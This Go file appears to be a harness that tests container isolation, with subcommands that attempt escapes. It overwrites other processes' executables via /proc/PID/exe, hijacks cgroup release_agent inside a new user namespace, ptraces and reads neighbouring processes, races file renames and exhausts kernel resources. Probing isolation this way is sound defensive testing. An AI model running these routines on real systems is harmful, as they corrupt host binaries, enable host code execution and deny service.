package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

// overwrite looks for programs of others by /proc/PID/exe, holds each open, and tries again and again to write to it: what is executed
// cannot be written, but later, when its process has gone, it could be. With a path as argument it also reads that file by way of each
// process's root, working directory and descriptors. It ends when /tmp/stop is there.
func overwrite(args []string) {
	w := writer{held: map[[2]uint64]*os.File{}, own: map[[2]uint64]bool{{}: true}}
	files, _ := filepath.Glob("/bin/*")
	for _, f := range files {
		w.own[identity(f)] = true
	}
	for w.rounds = 0; ; w.rounds++ {
		w.round(args)
		if _, err := os.Stat("/tmp/stop"); err == nil && w.rounds > 0 {
			break
		}
		if w.rounds == 0 {
			fmt.Println("looking")
		}
	}
	for _, f := range w.held {
		w.try(f)
	}
	fmt.Printf("held %d written %d leaked %d\n", len(w.held), w.written, w.leaked)
}

type writer struct {
	held                    map[[2]uint64]*os.File
	own                     map[[2]uint64]bool // the image's programs, which it may write to
	rounds, written, leaked int
}

func identity(name string) [2]uint64 {
	var st syscall.Stat_t
	if err := syscall.Stat(name, &st); err != nil {
		return [2]uint64{}
	}
	return [2]uint64{uint64(st.Dev), st.Ino}
}

func (w *writer) round(canaries []string) {
	list, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range list {
		if f, err := os.OpenFile(dir+"/exe", os.O_WRONLY, 0); err == nil && !w.own[identity(dir+"/exe")] {
			_, _ = f.Write([]byte("overwritten"))
			f.Close()
			w.written++
		}
		if id := identity(dir + "/exe"); !w.own[id] && w.held[id] == nil {
			if f, err := os.Open(dir + "/exe"); err == nil {
				w.held[id] = f
			}
		}
		for _, c := range canaries {
			w.look(dir, c)
		}
	}
	for _, f := range w.held {
		w.try(f)
	}
}

// try writes to a file that is open for reading.
func (w *writer) try(f *os.File) {
	out, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
	if err != nil {
		return
	}
	defer out.Close()
	_, _ = out.WriteAt([]byte("overwritten"), 0)
	w.written++
}

// look reads a file of the host's, by whatever leads out of a process.
func (w *writer) look(dir, canary string) {
	ways := []string{dir + "/root", dir + "/cwd"}
	for fd := range 32 {
		ways = append(ways, fmt.Sprintf("%s/fd/%d", dir, fd))
	}
	for _, way := range ways {
		for _, name := range []string{way + canary, way + "/../../../../../../../.." + canary} {
			if b, err := os.ReadFile(name); err == nil && bytes.Contains(b, []byte("canary")) {
				w.leaked++
				fmt.Println("leaked by", name)
			}
		}
	}
}

// agent tries to have the kernel run a program of its own choice on the host, when a control group has become empty: with what it sees of
// control groups, and as root of a user namespace of its own, where it may mount them.
func agent([]string) {
	tryAgents("as it is")
	cmd := exec.Command("/proc/self/exe", "mount-agents")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stdout
	ids := []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}}
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWCGROUP, UidMappings: ids, GidMappings: ids}
	if err := cmd.Run(); err != nil {
		fmt.Println("namespaces of its own:", err)
	}
	fmt.Println("done")
}

func mountAgents([]string) {
	_ = os.Mkdir("/tmp/group", 0o755)
	for _, kind := range []string{"rdma", "memory", "cpu", "none,name=x"} {
		if err := syscall.Mount("cgroup", "/tmp/group", "cgroup", 0, kind); err != nil {
			continue
		}
		fmt.Println("mounted", kind)
		tryAgents("in namespaces of its own")
		_ = syscall.Unmount("/tmp/group", 0)
	}
}

func tryAgents(how string) {
	for _, root := range []string{"/sys/fs/cgroup", "/tmp/group"} {
		_ = filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
			if err != nil || fi.IsDir() {
				return nil
			}
			if base := filepath.Base(p); base == "release_agent" || base == "notify_on_release" && how == "as it is" {
				if f, err := os.OpenFile(p, os.O_WRONLY, 0); err == nil {
					_, err = f.Write([]byte("/agent"))
					f.Close()
					if err == nil {
						fmt.Println("WRITTEN", how, p)
					}
				}
			}
			return nil
		})
	}
}

// keyring prints the serial numbers of the keyrings that the process has, and whether it finds a key by its name.
func keyring(args []string) {
	for _, k := range []struct {
		name string
		id   int
	}{{"session", -3}, {"user", -4}, {"user session", -5}} {
		serial, _, errno := syscall.Syscall(keyctlNumber, 0 /* GET_KEYRING_ID */, uintptr(k.id), 0)
		if errno != 0 {
			fmt.Println(k.name, errno)
			continue
		}
		found := "not found"
		kind, _ := syscall.BytePtrFromString("user")
		name, _ := syscall.BytePtrFromString(args[0])
		if _, _, errno := syscall.Syscall6(keyctlNumber, 10 /* SEARCH */, uintptr(k.id), uintptr(unsafe.Pointer(kind)), uintptr(unsafe.Pointer(name)), 0, 0); errno == 0 {
			found = "FOUND"
		}
		fmt.Println(k.name, int32(serial), found)
	}
}

// neighbours tries everything on processes that are not the container's own: those whose numbers are given.
func neighbours(args []string) {
	for _, a := range args {
		var pid int
		_, _ = fmt.Sscan(a, &pid)
		fmt.Println(pid, "signal:", syscall.Kill(pid, 0))
		_, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, 16 /* ATTACH */, uintptr(pid), 0, 0, 0, 0)
		fmt.Println(pid, "ptrace:", errno)
		for _, name := range []string{"environ", "maps", "root/etc/hostname", "cwd", "fd/0", "mem"} {
			f, err := os.Open("/proc/" + a + "/" + name)
			if err == nil {
				f.Close()
			}
			fmt.Println(pid, name+":", plain(err))
		}
	}
}

func plain(err error) string {
	if err == nil {
		return "OPENED"
	}
	s := err.Error()
	return s[strings.LastIndex(s, ": ")+2:]
}

// swap exchanges two names all the time.
func swap(args []string) {
	a, _ := syscall.BytePtrFromString(args[0])
	b, _ := syscall.BytePtrFromString(args[1])
	here := ^uintptr(99) // AT_FDCWD
	for n := 0; ; n++ {
		_, _, errno := syscall.RawSyscall6(renameNumber, here, uintptr(unsafe.Pointer(a)), here, uintptr(unsafe.Pointer(b)), 2 /* RENAME_EXCHANGE */, 0)
		if n == 1000 {
			fmt.Println("swapping:", errno == 0)
		}
	}
}

// processes prints the names of all that are seen.
func processes([]string) {
	time.Sleep(50 * time.Millisecond)
	list, _ := filepath.Glob("/proc/[0-9]*/comm")
	for _, f := range list {
		b, _ := os.ReadFile(f)
		fmt.Print(string(b))
	}
}

// scarce takes all that a user may have of what the kernel counts for users: inotify instances, and bytes of message queues. It says how many it got.
func scarce([]string) {
	watches, queues := 0, 0
	for {
		if _, err := syscall.InotifyInit(); err != nil {
			break
		}
		watches++
	}
	for {
		name, err := syscall.BytePtrFromString(fmt.Sprint("scarce", queues))
		if err != nil {
			break
		}
		if _, _, errno := syscall.Syscall6(syscall.SYS_MQ_OPEN, uintptr(unsafe.Pointer(name)), syscall.O_CREAT|syscall.O_RDWR, 0o600, 0, 0, 0); errno != 0 {
			break
		}
		queues++
	}
	fmt.Println(watches, queues)
	time.Sleep(time.Hour)
}
